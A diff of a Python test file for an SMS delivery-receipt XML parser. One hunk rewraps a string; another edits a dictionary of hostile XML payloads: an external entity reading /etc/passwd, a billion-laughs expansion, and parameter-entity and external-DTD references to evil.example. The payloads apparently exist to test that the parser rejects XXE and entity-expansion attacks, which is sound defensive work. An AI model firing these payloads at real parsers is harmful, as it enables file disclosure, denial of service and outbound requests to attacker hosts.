@@ -143,7 +143,8 @@ def test_a_receipt_names_our_message() -> None:
 def test_a_receipt_as_vibes_was_seen_to_send_it() -> None:
     """Recorded in March 2025: of a single message, whose sender gave no id."""
     text = (
-        '<mtMessageResponse messageId="2fe6d7da-9772-4c53-95a6-53f9220f562c" receiptDate="2025-03-03T09:24:47.008-06:00">\n'
+        '<mtMessageResponse messageId="2fe6d7da-9772-4c53-95a6-53f9220f562c" '
+        'receiptDate="2025-03-03T09:24:47.008-06:00">\n'
         "        <type>Handset</type>\n"
         '        <status isError="false">\n'
         "            <description>MtMessage successfully delivered to the Handset</description>\n"
@@ -246,7 +247,7 @@ def test_an_answer_that_is_no_list_of_receipts(answer: HttpResponse) -> None:
 
 LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
 HOSTILE = {
-    "an external entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><mtMessageResponse>&e;</mtMessageResponse>',
+    "an external entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
     "a billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]><mtMessageResponse>&l9;</mtMessageResponse>',
     "a parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><mtMessageResponse/>',
     "an external subset": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><mtMessageResponse/>',
